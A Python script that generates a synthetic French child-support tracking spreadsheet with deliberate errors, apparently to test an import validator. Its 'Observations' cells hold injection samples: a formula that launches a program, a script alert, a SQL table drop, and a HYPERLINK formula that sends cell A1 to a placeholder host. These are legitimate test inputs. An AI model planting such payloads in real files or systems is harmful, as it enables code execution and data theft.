"""Three hundred rows as a tired person fills a spreadsheet, and what a script of its own reads in them."""

import csv
import io
import random
import re
from datetime import date, timedelta

import pandas as pd

STOPPED = date(2026, 6, 15)
FIRST = date(2023, 9, 1)
SIZE = 300
HEADINGS = (
    "N° dossier", "Date d’orientation", "Nom de l’enfant", "Prénom", "Sexe", "Né(e) le", "CP", "Orienté par", "Motif(s)",
    "Accord parents", "Date EPS", "Décision", "Référent", "Début parcours", "Fin parcours", "Motif de sortie", "QPV (O/N)",
    "Heures", "Observations",
)  # fmt: skip
# Names that programs take for something else.
ODD_NAMES = ("NA", "NULL", "None", "NaN", "True", "O'Neill", "D'Aït-N’Golo", "Müller", "X", "1e400")
HOSTILE = (
    "=cmd|'/C calc'!A0", "+33612345678", "-2+3", "@SUM(1)", "<script>alert(1)</script>", "{{7*7}}", "'; DROP TABLE child--",
    '=HYPERLINK("http://x/?"&A1,"clic")', "%", "",
)  # fmt: skip
GIVEN = ("Amande", "Basalte", "Cyprine", "Dahlia", "Ezéchiel", "Fougère", "Grenat", "Hibiscus", "Iris", "Jaspe")
OUTCOMES = {
    "Parcours": "pathway", "Refus de l’équipe": "refused", "Refus de la famille": "declined", "Orientation ailleurs": "elsewhere",
    "En attente": "waiting", "": None,
}  # fmt: skip
SEXES = {"F": "girl", "Fille": "girl", "M": "boy", "Garçon": "boy", "": "unknown"}
YES = {"O": "yes", "oui ": "yes", "OUI": "yes", "N": "no", "non": "no", "": None}
# Cells that make their row refused, by column.
REFUSED = (
    ("Né(e) le", "29/02/2023"), ("Né(e) le", "31/04/2014"), ("Né(e) le", "01/01/0001"), ("Né(e) le", "31/12/9999"),
    ("Né(e) le", "12/05/1950"), ("Date d’orientation", "31/06/2026"), ("Date d’orientation", ""), ("Heures", "beaucoup"),
    ("Heures", "NaN"), ("Heures", "-3"), ("Nom de l’enfant", ""), ("Fin parcours", "02/09/2020"),
)  # fmt: skip


def spreadsheet(seed: int) -> bytes:
    """A CSV of cp1252 and semicolons, under a title; one row in twenty-five cannot come in."""
    chance, children = random.Random(seed), _children(random.Random(seed + 1))
    text = io.StringIO()
    writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
    writer.writerow([f"Suivi du PRE, arrêté au {STOPPED:%d/%m/%Y}"])
    writer.writerow(HEADINGS)
    for number in range(1, SIZE + 1):
        row = _row(chance, number, children[chance.randrange(len(children))])
        if number % 25 == 0:
            column, cell = REFUSED[number // 25 - 1]
            row[column] = cell
            if column == "Fin parcours":
                row |= {"Début parcours": "03/11/2025", "Date EPS": "01/11/2025", "Date d’orientation": "20/10/2025"}
                row |= {"Décision": "Parcours"}
            if column == "Nom de l’enfant":
                row["Prénom"] = ""
        writer.writerow([row[name] for name in HEADINGS])
    return text.getvalue().encode("cp1252")


def _children(chance: random.Random) -> list[tuple[str, str, str, date, str]]:
    """Two hundred and forty children: family name, given name, sex, birth, postcode; nobody has another's name."""
    found = []
    for place in range(240):
        family = ODD_NAMES[place] if place < len(ODD_NAMES) else "".join(chance.choices("bcdfglmnprstv", k=7)).title()
        birth = date(2010, 9, 1) + timedelta(days=chance.randrange(4000))
        postcode = chance.choice(("01000", "2A004", "97400"))
        found.append((family, GIVEN[place % len(GIVEN)], chance.choice(list(SEXES)), birth, postcode))
    return found


def _row(chance: random.Random, number: int, child: tuple[str, str, str, date, str]) -> dict[str, str]:
    received = FIRST + timedelta(days=chance.randrange(1010))
    met = _after(received, chance.randrange(70)) if chance.random() < 0.85 else None
    decided = chance.choice(["Parcours"] * 4 + [name for name in OUTCOMES if name != "Parcours"]) if met else ""
    started = _after(met, chance.randrange(40)) if met and decided == "Parcours" and chance.random() < 0.9 else None
    ended = _after(started, chance.randrange(30, 700)) if started and chance.random() < 0.6 else None
    family, given, sex, birth, postcode = child
    return {
        "N° dossier": f"{number:04}",
        "Date d’orientation": _written(chance, received),
        "Nom de l’enfant": chance.choice((family, f" {family}", f"{family} ")),
        "Prénom": given,
        "Sexe": sex,
        "Né(e) le": _written(chance, birth),
        "CP": postcode,
        "Orienté par": chance.choice(("École", "Famille", "")),
        "Motif(s)": " ; ".join(chance.sample(("Résultats scolaires", "Santé", "Langage"), chance.randrange(4))),
        "Accord parents": chance.choice(list(YES)),
        "Date EPS": _written(chance, met),
        "Décision": decided,
        "Référent": chance.choice(("Bruno Brindille", "Cécile Aulnaie", "Djamila Corbeval")) if started else "",
        "Début parcours": _written(chance, started),
        "Fin parcours": _written(chance, ended),
        "Motif de sortie": chance.choice(("Objectifs atteints", "Déménagement")) if ended else "",
        "QPV (O/N)": chance.choice(list(YES)),
        "Heures": chance.choice(("", "0", "2,5", "12", "30,25")),
        "Observations": chance.choice(HOSTILE),
    }


def _after(day: date, days: int) -> date | None:
    later = day + timedelta(days=days)
    return later if later <= STOPPED else None


def _written(chance: random.Random, day: date | None) -> str:
    """One of the ways in which people write a day; the serial number of a spreadsheet among them."""
    if day is None:
        return ""
    return chance.choice(
        (f"{day:%d/%m/%Y}", f"{day:%d/%m/%Y}", f"{day:%Y-%m-%d}", str((day - date(1899, 12, 30)).days))
    )


def read_again(content: bytes) -> pd.DataFrame:
    """The situations that may come in, read without the product; `line` is that of the first row."""
    table = pd.read_csv(
        io.BytesIO(content), sep=";", encoding="cp1252", skiprows=1, dtype=str, keep_default_na=False, na_filter=False
    )
    table = table.apply(lambda column: column.str.strip())
    days = {
        name: table[name].map(_read)
        for name in ("Date d’orientation", "Né(e) le", "Date EPS", "Début parcours", "Fin parcours")
    }
    hours = (
        table["Heures"].str.replace(",", ".").map(lambda said: float(said) if re.fullmatch(r"[\d.]+", said) else None)
    )
    wrong = (table["Nom de l’enfant"] == "") | (table["Heures"] != "") & hours.isna()
    for name, read in days.items():
        wrong |= (table[name] != "") & read.isna() | (read < pd.Timestamp("1990-01-01"))
    wrong |= days["Date d’orientation"].isna() | (days["Fin parcours"] < days["Début parcours"])
    wrong |= days["Né(e) le"] > pd.Timestamp(STOPPED)
    child = table["Nom de l’enfant"] + "|" + table["Prénom"]
    known = {name: place for place, name in enumerate(sorted(set(child)), start=1)}
    read = pd.DataFrame(
        {
            "line": table.index + 3,
            "family_name": table["Nom de l’enfant"],
            "situation_id": range(1, len(table) + 1), "child_id": child.map(known), "received_on": days["Date d’orientation"],
            "met_on": days["Date EPS"], "outcome": table["Décision"].map(OUTCOMES), "decided_on": days["Date EPS"],
            "started_on": days["Début parcours"], "ended_on": days["Fin parcours"],
            "exit_reason": table["Motif de sortie"].replace("", None), "origin": table["Orienté par"].replace("", None),
            "qpv": table["QPV (O/N)"].map({said.strip(): word for said, word in YES.items()}), "hours": hours,
            "birth": days["Né(e) le"], "motives": table["Motif(s)"].map(lambda said: [each for each in said.split(" ; ") if each]),
            "member_id": table["Référent"],
        },
        index=table.index,
    )  # fmt: skip
    # A child orientated twice the same day is one situation, whose empty cells are taken from the other row.
    return read[~wrong].groupby(["child_id", "received_on"], sort=False).first().reset_index()


def _read(said: str) -> pd.Timestamp:
    for form in ("%d/%m/%Y", "%Y-%m-%d"):
        day = pd.to_datetime(said, format=form, errors="coerce")
        if not pd.isna(day):
            return day
    if re.fullmatch(r"\d{5}", said):
        return pd.Timestamp("1899-12-30") + pd.Timedelta(days=int(said))
    return pd.NaT
